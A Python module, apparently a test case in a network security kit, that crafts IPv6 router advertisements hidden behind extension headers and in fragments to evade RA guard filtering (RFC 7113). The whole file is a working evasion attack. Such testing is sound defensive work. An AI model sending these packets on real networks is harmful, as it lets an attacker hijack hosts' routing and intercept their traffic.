# SPDX-License-Identifier: Apache-2.0
"""Router advertisements behind extension headers and in fragments pass RA guards (RFC 7113)."""
from kit import *

FAMILIES = (6,)


def attack(pot):
    ra = icmp(pot.link_local(), "ff02::1", 134, b"\x40\x08\x07\x08" + b"\0" * 8 + b"\1\1" + pot.mac, ttl=255)
    options = b"\1\4\0\0\0\0"
    for headers in ([(60, options)], [(0, options)], [(60, options)] * 2, [(44, b"\0\0\0\0\0\1")],
                    [(60, b"\1\x7a" + b"\0" * 122)], [(60, options), (44, b"\0\0\0\0\0\2")],
                    [(60, options)] * 20):
        pot.send(*[ethernet(group("ff02::1"), pot.mac, extension(ra, *headers))] * 5)
    hidden = extension(ra, (60, b"\1\x7a" + b"\0" * 122), (60, options))
    for size in (8, 16, 64, 128):
        for part in fragments(hidden, size, size) + fragments(ra, 8, size + 1):
            pot.send(ethernet(group("ff02::1"), pot.mac, part))
